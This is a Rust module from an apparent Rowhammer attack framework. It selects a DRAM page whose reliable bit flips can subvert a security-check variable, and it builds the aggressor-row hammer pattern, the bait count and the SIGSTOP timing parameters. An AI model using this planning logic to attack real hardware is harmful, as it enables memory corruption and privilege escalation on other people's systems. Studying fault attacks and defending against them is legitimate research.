//! Choosing the flippy page, the hammer pattern and the bait count.

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use super::{frame_row, AttackError, FlipEntry, FlipMap, SLOTS_PER_PAGE};
use crate::dram::{Dram, FlipDirection, HammerPattern};
use crate::gadgetscan::flip_fuzz;
use crate::victims::SecurityVar;

#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanParams {
    /// Aggressor rows in the online pattern.
    #[serde(default = "default_sides")]
    pub n_sided: u32,
    #[serde(default = "default_rounds")]
    pub rounds: u32,
    /// Only cells flipping at least this often in profiling are used.
    #[serde(default = "default_repro")]
    pub min_reproducibility: f64,
    /// Probability a SIGSTOP lands inside the waiting phase.
    #[serde(default = "default_hit")]
    pub sigstop_hit_prob: f64,
}

fn default_sides() -> u32 {
    11
}
fn default_rounds() -> u32 {
    100
}
fn default_repro() -> f64 {
    0.9
}
fn default_hit() -> f64 {
    0.9
}

impl Default for PlanParams {
    fn default() -> Self {
        Self {
            n_sided: default_sides(),
            rounds: default_rounds(),
            min_reproducibility: default_repro(),
            sigstop_hit_prob: default_hit(),
        }
    }
}

impl PlanParams {
    pub fn validate(&self) -> Result<(), AttackError> {
        if self.n_sided == 0 || self.rounds == 0 {
            return Err(AttackError::Invalid("n_sided and rounds must be > 0".into()));
        }
        if !(0.0..=1.0).contains(&self.min_reproducibility) || !(0.0..=1.0).contains(&self.sigstop_hit_prob) {
            return Err(AttackError::Invalid("probabilities must be in [0, 1]".into()));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct AttackPlan {
    pub flippy_frame: u64,
    /// Cells of the flippy page that flip the target towards success.
    pub cells: Vec<FlipEntry>,
    /// Slots (of 256) in which the target sits on one of `cells`.
    pub covered_slots: Vec<u64>,
    pub bait_count: usize,
    pub nibble: u64,
    pub pattern: HammerPattern,
    pub sigstop_hit_prob: f64,
}

impl AttackPlan {
    pub fn slot_fraction(&self) -> f64 {
        self.covered_slots.len() as f64 / SLOTS_PER_PAGE as f64
    }
}

/// Row offsets of the aggressors relative to the victim row: odd offsets,
/// one more below than above. `n = 2` gives the double-sided pair.
pub fn aggressor_offsets(n: u32) -> Vec<i64> {
    let below = i64::from(n.div_ceil(2));
    let above = i64::from(n / 2);
    let mut v: Vec<i64> = (1..=below).rev().map(|i| -(2 * i - 1)).collect();
    v.extend((1..=above).map(|i| 2 * i - 1));
    v
}

/// A flippy cell and the slot it serves.
pub type SlotCell = (u64, FlipEntry);

/// Cells of `entries` that, with the target at slot `k`, flip a bit whose
/// single flip passes the check. Returns `(slot, cell)` pairs.
pub fn useful_cells(entries: &[FlipEntry], var: &SecurityVar, nibble: u64) -> Vec<SlotCell> {
    let width = var.width_bits;
    let init = var.init_value & var.mask();
    let good: BTreeSet<u32> = flip_fuzz(width, init, var.check).single_flips.into_iter().collect();
    let wb = var.width_bytes() as u64;
    let mut out = Vec::new();
    for e in entries {
        let byte = e.byte_offset();
        let rel = (byte % 16).wrapping_sub(nibble % 16);
        if rel >= wb {
            continue;
        }
        let var_bit = (rel * 8) as u32 + e.bit % 8;
        if var_bit >= width || !good.contains(&var_bit) {
            continue;
        }
        let bit_set = init >> var_bit & 1 == 1;
        let dir_ok = match e.direction {
            FlipDirection::ZeroToOne => !bit_set,
            FlipDirection::OneToZero => bit_set,
        };
        if dir_ok {
            out.push((byte / 16, *e));
        }
    }
    out
}

/// Pick the flippy page covering the most target slots, among pages whose
/// row leaves room for the aggressors.
pub fn plan_attack(
    dram: &Dram,
    map: &FlipMap,
    var: &SecurityVar,
    nibble: u64,
    bait_count: usize,
    params: &PlanParams,
) -> Result<AttackPlan, AttackError> {
    params.validate()?;
    let reliable = map.filter(params.min_reproducibility);
    let mut by_frame: BTreeMap<u64, Vec<FlipEntry>> = BTreeMap::new();
    for e in &reliable.entries {
        by_frame.entry(e.frame).or_default().push(*e);
    }
    let offsets = aggressor_offsets(params.n_sided);
    let rows = i64::from(dram.geometry().rows_per_bank);
    let mut best: Option<(usize, u64, Vec<SlotCell>)> = None;
    for (frame, entries) in &by_frame {
        let useful = useful_cells(entries, var, nibble);
        let slots: BTreeSet<u64> = useful.iter().map(|(s, _)| *s).collect();
        if slots.is_empty() || best.as_ref().is_some_and(|b| b.0 >= slots.len()) {
            continue;
        }
        let row = i64::from(frame_row(dram, *frame)?.row);
        if offsets.iter().any(|o| !(0..rows).contains(&(row + o))) {
            continue;
        }
        best = Some((slots.len(), *frame, useful));
    }
    let (_, frame, useful) = best.ok_or_else(|| AttackError::NoFlippyPage("no reliable cell can flip the target".into()))?;
    let id = frame_row(dram, frame)?;
    let pattern = HammerPattern::new(id.bank, offsets.iter().map(|o| (i64::from(id.row) + o) as u32))
        .with_rounds(params.rounds);
    let covered: BTreeSet<u64> = useful.iter().map(|(s, _)| *s).collect();
    let mut cells: Vec<FlipEntry> = useful.into_iter().map(|(_, e)| e).collect();
    cells.dedup();
    Ok(AttackPlan {
        flippy_frame: frame,
        cells,
        covered_slots: covered.into_iter().collect(),
        bait_count,
        nibble: nibble % 16,
        pattern,
        sigstop_hit_prob: params.sigstop_hit_prob,
    })
}
